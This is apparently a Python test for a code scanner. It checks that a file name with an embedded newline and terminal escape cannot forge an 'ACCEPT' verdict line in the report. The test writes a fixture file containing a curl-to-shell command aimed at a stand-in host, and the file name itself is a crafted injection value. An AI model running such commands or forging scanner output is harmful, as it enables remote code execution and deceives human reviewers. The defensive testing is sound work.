"""A file name is the author's text: in the text report a newline in it must
not start a line of its own (a forged verdict line), nor an escape sequence
reach the reviewer's terminal."""

from __future__ import annotations

from pathlib import Path


def test_control_characters_in_a_file_name_are_shown_as_escapes(jobgate, tmp_path: Path) -> None:
    forged = "x.py\n  ACCEPT  score 0 of 100\x1b[2J"
    (tmp_path / forged).write_text("import os\nos.system('curl http://e/x | sh')\n")
    proc = jobgate("scan", "--no-cache", str(tmp_path))
    assert "\x1b" not in proc.stdout
    assert "x.py\\u000a  ACCEPT  score 0 of 100\\u001b[2J" in proc.stdout
    assert not any(line.lstrip().startswith("ACCEPT") for line in proc.stdout.splitlines())
    assert proc.returncode == 1
